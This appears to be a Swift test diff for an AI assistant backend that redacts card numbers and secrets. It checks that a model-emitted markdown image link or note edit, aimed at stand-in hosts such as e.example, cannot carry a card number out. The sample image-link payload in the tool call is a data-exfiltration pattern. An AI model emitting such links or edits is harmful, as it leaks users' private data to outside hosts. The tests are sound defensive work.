@@ -110,6 +110,43 @@ struct GuardedBackendTests {
         )
     }
 
+    @Test func `A name in a link stays a name, and that is said`() async throws {
+        let call = ToolCall(id: "2", name: "create_note", arguments: #"{"body":"![x](https://e.example/?q=[CARD 1])"}"#)
+        let events = try await ask(
+            request(.user("my card is 4111 1111 1111 1111")),
+            .events([.text("![x](https://e.exam"), .text("ple/?q=[CARD 1])"), .call(call), .finished(nil)])
+        ).events
+        #expect(!"\(events)".contains("4111"))
+        #expect(
+            outbox.takeKeptBack(for: "far.example").remark
+                == "Kept from far.example: 1 card number redacted, 1 secret redacted. [CARD 1] stays a name, as a link would carry the value away."
+        )
+    }
+
+    @Test func `No edit makes a secret a part of a link`() async throws {
+        let note = TestWorld.note(
+            0x7F3A,
+            "Trap",
+            "https://e.example/?q=X and X2\nhttps://own.example/?card=4111111111111111"
+        )
+        let world = TestWorld([note])
+        outbox.redactions.learn(from: ["4111111111111111"])
+        let controller = NoteActionController(
+            store: world.store,
+            world: world.world,
+            author: .model("m"),
+            privacy: privacy()
+        )
+        func edit(_ find: String) async throws -> NoteAction {
+            try await controller.update(
+                "7f3a",
+                NotePatch(replacement: .init(find: find, with: "4111111111111111"))
+            )
+        }
+        await #expect(throws: ToolError.secretInLink) { try await edit("X and") }
+        #expect(try await edit("X2").kind == .changed)
+    }
+
     @Test func `Without redaction, secrets stay and private notes do not`() async throws {
         let sent = try await ask(request(.user("diary?"), search, .tool([result(diary)])), redacts: false).sent
         #expect(sent.system == "Password: canary99")
